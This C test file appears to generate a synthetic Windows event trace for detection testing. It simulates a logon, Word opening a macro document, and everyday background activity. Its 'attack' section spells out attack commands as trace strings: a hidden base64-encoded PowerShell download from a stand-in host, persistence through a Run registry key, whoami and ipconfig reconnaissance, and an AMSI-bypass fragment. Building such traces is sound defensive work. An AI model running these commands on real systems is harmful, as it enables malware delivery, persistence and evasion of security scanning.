// `demo`: the sample trace. A minute at an office machine, told in four seconds: ana logs on, opens a
// document whose macro starts PowerShell, which loads a file and makes it start with Windows; meanwhile
// an inventory agent, a VPN driver and the rest of the machine go on. Names are invented, addresses are
// those reserved for documentation.

#include "event/schema.h"
#include "tests/etlgen/demo_providers.h"
#include "tests/etlgen/demo_world.h"
#include "tests/etlgen/scenario.h"
#include "tests/etlgen/tl_builder.h"

#define VOLUME       "\\Device\\HarddiskVolume3\\"
#define SYSTEM32     VOLUME "Windows\\System32\\"
#define HOME         VOLUME "Users\\ana\\"
#define OFFICE       VOLUME "Program Files\\Microsoft Office\\root\\Office16\\"
#define HKLM         "\\REGISTRY\\MACHINE\\"
#define HKCU         "\\REGISTRY\\USER\\S-1-5-21-1004336348-1177238915-682003330-1001\\"
#define RUN_KEY      HKCU "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
#define EXPLORER_KEY HKCU "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced"
#define WORD_KEY     HKCU "Software\\Microsoft\\Office\\16.0\\Word\\Options"

// Invoke-WebRequest http://cdn.etwbroker-sample.top/u.txt -OutFile $env:PUBLIC\u.tmp
#define ENCODED_COMMAND                                                                            \
    "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwBjAGQAbgAuAGUAdAB3AGIAcgBv" \
    "AGsA"                                                                                         \
    "ZQByAC0AcwBhAG0AcABsAGUALgB0AG8AcAAvAHUALgB0AHgAdAAgAC0ATwB1AHQARgBpAGwAZQAgACQAZQBuAHYAOgBQ" \
    "AFUA"                                                                                         \
    "QgBMAEkAQwBcAHUALgB0AG0AcAA="

static void prepare_demo(const ScenarioOptions *o, EtlwOptions *w) {
    w->buffer_bytes = 16 * 1024;
    w->session_name = "EtwBroker Demo";
    w->file_name = "C:\\Traces\\demo.etl";
    w->trim_header_buffer = o->packing != ETLW_PLAIN;
}

static void machine(World *w) {
    Gen *g = w->g;
    static const char *const volumes[][2] = {
        {"\\??\\", ""},
        {"\\SystemRoot\\", "C:\\Windows\\"},
        {VOLUME, "C:\\"},
        {"\\Device\\Mup\\", "\\\\"},
        {"\\Device\\HarddiskVolume5\\", "D:\\"},
    };
    blob_utf16z(&g->payload, "C:\\Windows\\system32");
    blob_utf16z(&g->payload, "C:\\Windows\\");
    gen_classic(g, 0, &sys_config_ex_guid, SYS_CONFIG_PATHS, 0, 0, 0);
    for (size_t i = 0; i < ARRAY_COUNT(volumes); i++) {
        blob_utf16z(&g->payload, volumes[i][0]);
        blob_utf16z(&g->payload, volumes[i][1]);
        gen_classic(g, 0, &sys_config_ex_guid, SYS_CONFIG_VOLUME, 0, 0, 0);
    }
    gen_advance(g, 2000);
    kp_config_cpu(&g->payload, 8, 3000, g->n_cpus, "ANA-LAPTOP", "CORP");
    gen_kernel(g, 0, ETL_HEADER_SYSTEM64, GROUP_CONFIG, CONFIG_CPU, 3, 3012, 3016);
    kp_config_platform(&g->payload, "Contoso", "Laptop 5", "01/02/2024", "1.17.0");
    gen_kernel(g, 0, ETL_HEADER_SYSTEM64, GROUP_CONFIG, CONFIG_PLATFORM, 2, 3012, 3016);
    kp_config_service(&g->payload, 1580, 31, "Dnscache", "DNS Client", "svchost.exe",
                      "NetworkService");
    gen_kernel(g, 0, ETL_HEADER_SYSTEM64, GROUP_CONFIG, CONFIG_SERVICES, 3, 3012, 3016);
}

typedef struct Cast {
    WorldProcess *system, *winlogon, *svchost, *indexer, *agent, *onedrive, *explorer, *word;
} Cast;

static void existing(World *w, Cast *c) {
    c->system = world_existing(w, 4, 0, 0, "System", "", "", NULL);
    world_existing(w, 512, 4, 0, "smss.exe", SYSTEM32 "smss.exe", "", &sid_system);
    world_existing(w, 740, 700, 0, "csrss.exe", SYSTEM32 "csrss.exe", "", &sid_system);
    world_existing(w, 820, 700, 0, "wininit.exe", SYSTEM32 "wininit.exe", "wininit.exe",
                   &sid_system);
    c->winlogon = world_existing(w, 912, 804, 1, "winlogon.exe", SYSTEM32 "winlogon.exe",
                                 "winlogon.exe", &sid_system);
    world_existing(w, 960, 820, 0, "services.exe", SYSTEM32 "services.exe",
                   "C:\\Windows\\system32\\services.exe", &sid_system);
    world_existing(w, 984, 820, 0, "lsass.exe", SYSTEM32 "lsass.exe",
                   "C:\\Windows\\system32\\lsass.exe", &sid_system);
    c->svchost =
        world_existing(w, 1580, 960, 0, "svchost.exe", SYSTEM32 "svchost.exe",
                       "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                       &sid_network_service);
    c->indexer = world_existing(w, 2844, 960, 0, "SearchIndexer.exe", SYSTEM32 "SearchIndexer.exe",
                                "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", &sid_system);
    c->agent = world_existing(
        w, 3196, 960, 0, "InventoryAgent.exe", VOLUME "Program Files\\Contoso\\InventoryAgent.exe",
        "\"C:\\Program Files\\Contoso\\InventoryAgent.exe\" --service", &sid_system);
    static const char *const keys[] = {
        RUN_KEY,
        EXPLORER_KEY,
        WORD_KEY,
        HKCU "Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings",
        HKLM "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        HKLM "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
        HKLM "SYSTEM\\ControlSet001\\Services\\Dnscache\\Parameters",
        HKLM "SYSTEM\\ControlSet001\\Services\\Tcpip\\Parameters",
    };
    for (size_t i = 0; i < ARRAY_COUNT(keys); i++)
        world_existing_key(w, keys[i]);
}

static void logon(World *w, Cast *c) {
    w->next_user = &sid_ana; // winlogon creates it as the user who logs on
    WorldProcess *userinit = world_start(w, c->winlogon, "userinit.exe", SYSTEM32 "userinit.exe",
                                         "C:\\Windows\\system32\\userinit.exe");
    c->explorer = world_start(w, userinit, "explorer.exe", VOLUME "Windows\\explorer.exe",
                              "C:\\Windows\\Explorer.EXE");
    world_load_image(w, c->explorer, SYSTEM32 "user32.dll", "user32.pdb");
    world_load_image(w, c->explorer, SYSTEM32 "shell32.dll", "shell32.pdb");
    world_query_value(w, c->explorer, EXPLORER_KEY, "Hidden");
    world_set_value(w, c->explorer, EXPLORER_KEY, "StartMenuInit", "13");
    WorldHandle h = world_open(w, c->explorer, HOME "Desktop\\desktop.ini", 1);
    world_read(w, c->explorer, h, 0, 282);
    world_close(w, c->explorer, h);
    world_pass(w, 120);
    world_end(w, userinit, 0);
    c->onedrive = world_start(
        w, c->explorer, "OneDrive.exe", HOME "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
        "\"C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background");
    world_dns(w, c->onedrive, "files.contoso.example", 1, 0, "::ffff:198.51.100.20;");
    world_tcp(w, c->onedrive, 0xc6336414, 443, 6, 12);
}

static void addin_event(World *w, const WorldProcess *p, const char *event, const char *document,
                        uint16_t n_pages) {
    Gen *g = w->g;
    Guid guid = guid_from_name(addin_name);
    Buf traits = BUF_INIT, metadata = BUF_INIT;
    tlb_traits(&traits, addin_name, NULL);
    TlBuilder tl = tlb_begin(&metadata, event, 0);
    tlb_field(&tl, "Document", IN_UTF16, 0, 0);
    tlb_field(&tl, "Pages", IN_U16, 0, 0);
    tlb_field(&tl, "HasMacros", IN_U8, 3, 0); // boolean
    tlb_struct(&tl, "Template", 2, 0);
    tlb_field(&tl, "Name", IN_UTF16, 0, 0);
    tlb_field(&tl, "Hash", IN_HEX64, 0, 0);
    tlb_var_array(&tl, "SectionBytes", IN_U32, 0);
    tlb_end(&tl);
    blob_utf16z(&g->payload, document);
    buf_u16(&g->payload, n_pages);
    blob_u8(&g->payload, 1);
    blob_utf16z(&g->payload, "Normal.dotm");
    buf_u64(&g->payload, 0x9e3779b97f4a7c15u);
    buf_u16(&g->payload, 3);
    for (uint32_t i = 0; i < 3; i++)
        buf_u32(&g->payload, prng_between(&g->rng, 2000, 90000));
    world_short(w);
    gen_tracelogging(g, gen_cpu(g), &guid, &traits, &metadata, 4, 0x1, 0, p->pid, p->tid);
    buf_deinit(&traits);
    buf_deinit(&metadata);
}

static void open_document(World *w, Cast *c) {
    c->word = world_start(w, c->explorer, "WINWORD.EXE", OFFICE "WINWORD.EXE",
                          "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                          "\"C:\\Users\\ana\\Documents\\report.docx\" /o \"\"");
    static const char *const dlls[] = {
        OFFICE "wwlib.dll",
        VOLUME "Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
        SYSTEM32 "ole32.dll",
        SYSTEM32 "combase.dll",
        SYSTEM32 "ws2_32.dll",
        SYSTEM32 "amsi.dll"};
    for (size_t i = 0; i < ARRAY_COUNT(dlls); i++) {
        world_load_image(w, c->word, dlls[i], i >= 2 ? "module.pdb" : NULL);
        world_pass(w, 3);
    }
    world_query_value(w, c->word, WORD_KEY, "DefaultFormat");
    WorldHandle document = world_open(w, c->word, HOME "Documents\\report.docx", 1);
    for (uint32_t i = 0; i < 12; i++)
        world_read(w, c->word, document, (uint64_t)i * 4096, 4096);
    WorldHandle owner = world_open(w, c->word, HOME "Documents\\~$report.docx", 2);
    world_write(w, c->word, owner, 0, 162);
    addin_event(w, c->word, "DocumentOpened", "C:\\Users\\ana\\Documents\\report.docx", 14);
    world_open_fails(w, c->word, HOME "AppData\\Roaming\\Microsoft\\Templates\\Company.dotm",
                     0xc0000034u);
    world_dns(w, c->word, "config.office-sample.example", 1, 0,
              "type:  5 edge.office-sample.example;::ffff:203.0.113.40;");
    static const uint16_t office6[8] = {0x2001, 0xdb8, 0x40, 0, 0, 0, 0, 0x28};
    world_dns(w, c->word, "config.office-sample.example", 28, 0, "2001:db8:40::28;");
    world_tcp6(w, c->word, office6, 443);
    world_close(w, c->word, document);
    world_set_value(w, c->word, WORD_KEY, "LastDocument", "C:\\Users\\ana\\Documents\\report.docx");
    world_pass(w, 150);
}

// --- the agent's EventSource and the VPN driver's WPP messages ---

static void agent_event(World *w, const WorldProcess *p, uint16_t id) {
    const EsManifestEvent *m = &agent_manifest.events[id - 1];
    EtlwEvent e = {
        .header_type = ETL_HEADER_EVENT64, .guid = agent_guid, .pid = p->pid, .tid = p->tid};
    e.desc =
        (EventDescriptor){.id = id, .version = m->version, .level = m->level, .opcode = m->opcode};
    e.desc.task = m->task;
    e.desc.keyword = id == 3 ? 0x2 : 0x1;
    world_short(w);
    gen_emit(w->g, gen_cpu(w->g), &e);
}

static void inventory(World *w, Cast *c) {
    Gen *g = w->g;
    Buf xml = BUF_INIT;
    es_manifest_xml(&xml, &agent_manifest);
    gen_manifest_chunks(g, gen_cpu(g), &agent_guid, &xml, 2048, c->agent->pid, c->agent->tid);
    buf_deinit(&xml);
    static const char *const products[][2] = {{"Contoso Office Add-In", "4.2.1"},
                                              {"Contoso VPN", "11.0.3"},
                                              {"Größenrechner", "1.0"},
                                              {"7-Zip", "24.08"},
                                              {"Git", "2.47.0"},
                                              {"PowerShell 7-x64", "7.4.6.0"}};
    for (int32_t job = 1; job <= 2; job++) {
        for (uint32_t state = 1; state <= 2; state++) {
            buf_u32(&g->payload, (uint32_t)job);
            buf_u32(&g->payload, state);
            buf_u32(&g->payload, job == 1 ? 7 : 2);
            blob_utf16z(&g->payload, "ANA-LAPTOP");
            agent_event(w, c->agent, (uint16_t)state);
            for (size_t i = 0; state == 1 && i < ARRAY_COUNT(products); i++) {
                world_pass(w, 5);
                buf_u32(&g->payload, (uint32_t)job);
                blob_utf16z(&g->payload, products[i][0]);
                blob_utf16z(&g->payload, products[i][1]);
                buf_u64(&g->payload, 133400000000000000u + i * 864000000000u);
                buf_u32(&g->payload, i % 2);
                agent_event(w, c->agent, 3);
            }
        }
    }
}

static void vpn_messages(World *w) {
    Gen *g = w->g;
    for (uint32_t i = 0; i < 5; i++) {
        EtlwEvent e = {
            .header_type = ETL_HEADER_MESSAGE, .guid = vpn_message_guid, .pid = 4, .tid = 8};
        e.desc.id = (uint16_t)(10 + i);
        e.wpp_options =
            WPP_SEQUENCE | WPP_GUID | WPP_TIMESTAMP | WPP_PERF_TIMESTAMP | WPP_SYSTEM_INFO;
        e.wpp_sequence = 700 + i;
        buf_u32(&g->payload, i);
        blob_ansiz(&g->payload, "tunnel0");
        world_short(w);
        gen_emit(g, gen_cpu(g), &e);
    }
    EtlwEvent unknown = {
        .header_type = ETL_HEADER_EVENT64, .guid = undescribed_guid, .pid = 4, .tid = 8};
    unknown.desc = (EventDescriptor){.id = 117, .version = 2, .level = 3, .keyword = 0x4000};
    buf_u32(&g->payload, 0xc0000225u);
    blob_utf16z(&g->payload, "adapter 3");
    world_short(w);
    gen_emit(g, gen_cpu(g), &unknown);
}

// --- the attack ---

static void powershell_events(World *w, WorldProcess *p) {
    static const char script[] =
        "Invoke-WebRequest http://cdn.etwbroker-sample.top/u.txt -OutFile $env:PUBLIC\\u.tmp";
    static const char amsi_text[] =
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')";
    Gen *g = w->g;
    Buf *b = &g->payload;
    for (int i = 0; i < 2; i++) {
        buf_u64(b, 0x2b9a);
        blob_u8(b, 1);
        buf_u32(b, i == 0 ? 1 : 32768); // not detected; detected
        blob_utf16z(b, "PowerShell_C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe_"
                       "10.0.22621.1");
        blob_utf16z(b, "");
        const char *text = i == 0 ? script : amsi_text;
        buf_u32(b, (uint32_t)(strlen(text) * 2));
        buf_u32(b, (uint32_t)(strlen(text) * 2));
        blob_utf16(b, text);
        for (uint32_t k = 0; k < 4; k++)
            buf_u64(b, prng_next(&g->rng));
        buf_u32(b, 0);
        world_short(w);
        gen_manifest(g, gen_cpu(g), &amsi_scanned, NULL, p->pid, p->tid, NULL, 0);
    }
    buf_u32(b, 1);
    buf_u32(b, 1);
    blob_utf16z(b, script);
    blob_utf16z(b, "6f1a3c0e-52d4-4b7a-9a41-0e7e3b1d7c55");
    blob_utf16z(b, "");
    world_short(w);
    gen_manifest(g, gen_cpu(g), &script_block, NULL, p->pid, p->tid, NULL, 0);
}

static void attack(World *w, Cast *c) {
    WorldProcess *shell = world_start(
        w, c->word, "powershell.exe", SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " ENCODED_COMMAND);
    world_load_image(w, shell, VOLUME "Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
                     "clr.pdb");
    world_load_image(w, shell, SYSTEM32 "amsi.dll", "Amsi.pdb");
    powershell_events(w, shell);
    world_pass(w, 80);
    world_dns(w, shell, "cdn.etwbroker-sample.top", 1, 0, "::ffff:203.0.113.99;");
    world_tcp(w, shell, 0xcb007163, 80, 2, 9);
    WorldHandle h = world_open(w, shell, VOLUME "Users\\Public\\u.tmp", 2);
    for (uint32_t i = 0; i < 9; i++)
        world_write(w, shell, h, (uint64_t)i * 8192, 8192);
    world_rename(w, shell, h, VOLUME "Users\\Public\\updater.exe");
    world_close(w, shell, h);
    world_set_value(w, shell, RUN_KEY, "Updater", "C:\\Users\\Public\\updater.exe /silent");
    WorldProcess *cmd =
        world_start(w, shell, "cmd.exe", SYSTEM32 "cmd.exe", "cmd.exe /c whoami /all & ipconfig");
    world_pass(w, 15);
    WorldProcess *whoami =
        world_start(w, cmd, "whoami.exe", SYSTEM32 "whoami.exe", "whoami  /all ");
    world_pass(w, 20);
    world_end(w, whoami, 0);
    WorldProcess *ipconfig =
        world_start(w, cmd, "ipconfig.exe", SYSTEM32 "ipconfig.exe", "ipconfig");
    world_dns(w, ipconfig, "wpad.corp.example", 1, 9003, "");
    world_end(w, ipconfig, 0);
    world_end(w, cmd, 0);
    world_pass(w, 60);
    world_end(w, shell, 0);
}

// A word processor saves by writing a new file and exchanging names.
static void save_document(World *w, Cast *c) {
    WorldHandle fresh = world_open(w, c->word, HOME "Documents\\~WRD0001.tmp", 2);
    for (uint32_t i = 0; i < 14; i++)
        world_write(w, c->word, fresh, (uint64_t)i * 4096, 4096);
    WorldHandle old = world_open(w, c->word, HOME "Documents\\report.docx", 1);
    world_rename(w, c->word, old, HOME "Documents\\~WRL0002.tmp");
    world_rename(w, c->word, fresh, HOME "Documents\\report.docx");
    world_delete(w, c->word, old);
    world_close(w, c->word, old);
    world_close(w, c->word, fresh);
    addin_event(w, c->word, "DocumentSaved", "C:\\Users\\ana\\Documents\\report.docx", 15);
    WorldHandle owner = world_open(w, c->word, HOME "Documents\\~$report.docx", 1);
    world_delete(w, c->word, owner);
    world_close(w, c->word, owner);
}

// The flush timer: once a second each CPU's buffer goes to the file.
static void pass_and_flush(World *w, uint32_t milliseconds) {
    world_pass(w, milliseconds);
    etlw_flush_all(w->g->writer);
}

static void run_demo(const ScenarioOptions *o, Gen *g) {
    (void)o;
    World w;
    Cast c;
    world_init(&w, g);
    machine(&w);
    existing(&w, &c);
    world_rundown_begin(&w);
    pass_and_flush(&w, 30);
    logon(&w, &c);
    world_dns(&w, c.svchost, "time.contoso.example", 1, 0, "::ffff:198.51.100.7;");
    pass_and_flush(&w, 700);
    open_document(&w, &c);
    inventory(&w, &c);
    pass_and_flush(&w, 650);
    vpn_messages(&w);
    attack(&w, &c);
    world_dns(&w, c.onedrive, "files.contoso.example", 28, 9501, "");
    world_tcp(&w, c.onedrive, 0xc6336414, 443, 3, 4);
    pass_and_flush(&w, 700);
    save_document(&w, &c);
    world_pass(&w, 450);
    world_end(&w, c.word, 0);
    world_dns(&w, c.svchost, "_ldap._tcp.dc.corp.example", 33, 0,
              "dc1.corp.example;dc2.corp.example;");
    pass_and_flush(&w, 600);
    world_rundown_end(&w);
}

const ScenarioInfo scenario_demo = {
    .name = "demo",
    .summary =
        "the sample trace: a document with a macro, PowerShell, a run key, and everyday noise",
    .n_cpus = 4,
    .packs = true,
    .prepare = prepare_demo,
    .run = run_demo,
};
